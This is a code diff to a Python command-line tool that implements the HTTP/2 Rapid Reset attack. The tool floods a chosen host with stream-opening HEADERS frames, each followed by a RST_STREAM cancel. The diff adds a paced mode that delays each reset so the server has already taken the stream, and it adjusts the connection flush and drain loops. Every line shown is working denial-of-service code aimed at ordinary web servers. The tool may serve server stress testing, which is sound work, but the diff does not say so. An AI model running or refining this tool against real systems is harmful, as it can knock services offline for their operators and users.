@@ -173,7 +173,7 @@ class Conn:
     def flush(self, reading, limit=QUEUE_LIMIT):
         """Move bytes until fewer than `limit` are queued; False if the server stopped
         taking them (a stall) or closed."""
-        while len(self.queued) >= limit or (limit == 0 and self.queued):
+        while self.queued and len(self.queued) >= max(limit, 1):
             if self.closed:
                 return False
             self._move(wait=0.05, reading=reading)
@@ -288,7 +288,7 @@ class Conn:
     def drain(self, until, done=lambda res: False):
         """Read (and send what is queued) until `until` (monotonic), the close, or `done`."""
         while time.monotonic() < until and not self.closed and not done(self.result):
-            self._move(wait=0.05, reading=True)
+            self._move(wait=min(0.05, max(0, until - time.monotonic())), reading=True)
             self.read_frames()
         self.read_frames()
 
@@ -338,7 +338,27 @@ def rapid_reset(conn, a, out):
             + RstStreamFrame(sid, error_code=0x8).serialize()
         )
 
-    out["sent"], out["stalled"] = flood(conn, pair, a.count or 100_000, a.seconds, reading=True)
+    if not a.paced:
+        out["sent"], out["stalled"] = flood(conn, pair, a.count or 100_000, a.seconds, reading=True)
+        conn.drain(time.monotonic() + 2)
+        return
+    # Paced: each RST_STREAM a moment after its HEADERS, so the server has taken the
+    # stream (and may have sent its request on) before the reset arrives.
+    end = time.monotonic() + a.seconds
+    sent = 0
+    while sent < (a.count or 100_000) and time.monotonic() < end:
+        if conn.result["goaway"] is not None or conn.closed:
+            break
+        sid = 1 + 2 * sent
+        try:
+            conn.write(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
+            conn.flush(reading=True, limit=0)
+            conn.drain(time.monotonic() + a.paced / 1000)
+            conn.write(RstStreamFrame(sid, error_code=0x8).serialize())
+        except Closed:
+            break
+        sent += 1
+    out["sent"] = sent
     conn.drain(time.monotonic() + 2)
 
 
@@ -434,6 +454,7 @@ def main():
     p.add_argument("--path", default="/")
     p.add_argument("--count", type=int, default=0)
     p.add_argument("--seconds", type=float, default=10.0)
+    p.add_argument("--paced", type=float, default=0, help="rapid-reset: ms between a HEADERS and its RST_STREAM")
     a = p.parse_args()
     began = time.monotonic()
     conn = Conn(a.host, a.port, a.authority)
